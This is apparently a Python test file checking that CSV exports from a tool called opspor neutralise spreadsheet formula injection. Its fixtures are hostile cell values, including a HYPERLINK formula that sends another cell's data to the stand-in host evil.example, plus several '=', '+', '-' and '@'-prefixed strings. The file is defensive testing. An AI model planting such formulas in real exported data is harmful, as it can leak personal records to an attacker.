"""Spreadsheet formulas from a drop do not reach Excel: every text cell that would start a formula
is neutralised in the CSV files written by ``opspor lists build`` / ``run`` and ``opspor ingest``."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from opspor.csv_safe import is_formula
from tests.lists.lists_kit import AS_OF, CPR, NAMES, write_drop

HYPERLINK = '=HYPERLINK("http://evil.example/?"&C2,"Klik her")'
NAME_D = "-2+3 Hansen"
DEPARTMENT = "+Geriatri"
ROUTE_NAME = "@SUM(1;2)"


def _rewrite(path: Path, change) -> None:
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    with open(path, "w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(change(dict(r)) for r in rows)


def hostile_drop(folder: Path) -> Path:
    """The hand-made drop with formulas in names and a department code."""
    write_drop(folder)

    def person(r):
        number = r["cpr"].replace("-", "")
        r["name"] = {CPR["A"]: HYPERLINK, CPR["D"]: NAME_D, CPR["C"]: "\t=1+1"}.get(number, r["name"])
        return r

    def contact(r):
        for column in ("course_department", "contact_department"):
            if r[column] == "Geriatri Æ":
                r[column] = DEPARTMENT
        return r

    _rewrite(folder / "persons.csv", person)
    _rewrite(folder / "contacts.csv", contact)
    return folder


def cells(out: Path) -> list[tuple[str, str]]:
    found = []
    for path in sorted(out.rglob("*.csv")):
        with open(path, newline="", encoding="utf-8") as f:
            found += [(path.name, value) for row in csv.reader(f) for value in row]
    return found


def assert_no_formula_cells(out: Path) -> None:
    written = cells(out)
    assert written, "no CSV was written"
    starting = [(name, value) for name, value in written if is_formula(value)]
    assert not starting, f"cells that Excel would run as formulas: {starting}"


@pytest.mark.parametrize("command", ["build", "run"])
def test_lists_csv_cells_cannot_start_a_formula(cli, tmp_path, command):
    drop = hostile_drop(tmp_path / "drop")
    if command == "build":
        out = tmp_path / "out"
        cli.subprocess("lists", "build", drop, "--as-of", AS_OF, "--out", out)
    else:
        cli.subprocess("ingest", drop)
        cli.subprocess("lists", "run", "--as-of", AS_OF)
        out = cli.home
    assert_no_formula_cells(out)
    written = {value for _name, value in cells(out)}
    # the values are kept, readable as text
    assert "'" + HYPERLINK in written
    assert "'" + NAME_D in written
    assert "'\t=1+1" in written
    assert "'" + DEPARTMENT in written
    assert NAMES["B"] not in written  # B is on no list (unchanged behaviour)


def test_ingest_rejects_csv_cannot_start_a_formula(cli, tmp_path):
    """The ingest's rejects.csv quotes the drop's bad values: neutralised like every CSV."""
    drop = write_drop(tmp_path / "drop")

    def person(r):
        if r["cpr"].replace("-", "") == CPR["F"]:
            r["sex"] = HYPERLINK
        return r

    _rewrite(drop / "persons.csv", person)
    cli.subprocess("ingest", drop, expect=None)
    rejects = list(cli.home.glob("loads/*/rejects.csv"))
    assert rejects, "no rejects.csv"
    assert_no_formula_cells(rejects[0].parent)
    assert "'" + HYPERLINK in {value for _name, value in cells(rejects[0].parent)}
